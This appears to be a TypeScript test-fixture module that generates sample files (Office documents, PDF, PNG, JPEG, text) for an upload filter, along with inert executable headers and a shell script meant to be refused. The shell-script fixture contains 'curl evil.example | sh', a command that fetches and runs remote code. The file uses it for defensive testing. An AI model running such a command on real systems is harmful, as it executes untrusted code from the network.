import archiver from 'archiver';
import * as CFB from 'cfb';
import { PassThrough } from 'node:stream';

/** Real file contents of every accepted type, and a few that must be refused. */

async function zip(entries: [string, string | Buffer][]): Promise<Buffer> {
  const archive = archiver('zip');
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => out.on('end', resolve));
  archive.pipe(out);
  for (const [name, content] of entries) {
    archive.append(content, { name });
  }
  await archive.finalize();
  await done;
  return Buffer.concat(chunks);
}

const contentTypes = (main: string): string =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  `<Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${main}"/></Types>`;

/** A Word 2007+ document: a zip whose [Content_Types].xml names the Word main part. */
export const docx = (): Promise<Buffer> =>
  zip([
    [
      '[Content_Types].xml',
      contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
    ],
    ['_rels/.rels', '<Relationships/>'],
    ['word/document.xml', '<w:document><w:body>Tumour board notes</w:body></w:document>'],
  ]);

export const xlsx = (): Promise<Buffer> =>
  zip([
    [
      '[Content_Types].xml',
      contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    ],
    ['_rels/.rels', '<Relationships/>'],
    ['xl/workbook.xml', '<workbook/>'],
  ]);

/** A plain zip (e.g. of an executable): not an accepted type. */
export const plainZip = (): Promise<Buffer> => zip([['setup.exe', mzExecutable()]]);

function cfbFile(streams: Record<string, Buffer>): Buffer {
  const container = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(streams)) {
    CFB.utils.cfb_add(container, `/${name}`, content);
  }
  return Buffer.from(CFB.write(container, { type: 'buffer' }) as Buffer);
}

/** A Word 97–2003 document: a CFB container with a WordDocument stream. */
export const doc = (): Buffer =>
  cfbFile({ WordDocument: Buffer.alloc(4096, 0x20), '1Table': Buffer.alloc(1024, 1) });

/** An Excel 97–2003 workbook: a CFB container with a Workbook stream. */
export const xls = (): Buffer => cfbFile({ Workbook: Buffer.alloc(4096, 0x09) });

/** A CFB container with neither (as an MSI installer is). */
export const otherCfb = (): Buffer => cfbFile({ '\u0005SummaryInformation': Buffer.alloc(600, 2) });

export const pdf = (body = 'Pathology report'): Buffer =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${body}\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  );

/** A 1×1 PNG. */
export const png = (): Buffer =>
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  );

/** JPEG start and end markers around a JFIF header. */
export const jpg = (): Buffer =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'latin1'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.alloc(200, 0x55),
    Buffer.from([0xff, 0xd9]),
  ]);

export const txt = (text = 'ECOG 1, EGFR exon 19 deletion.\nMünchen — 2026\n'): Buffer =>
  Buffer.from(text, 'utf8');

/** A Windows executable's header (MZ … PE). */
export function mzExecutable(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

export const elfExecutable = (): Buffer =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);

export const shellScript = (): Buffer => Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
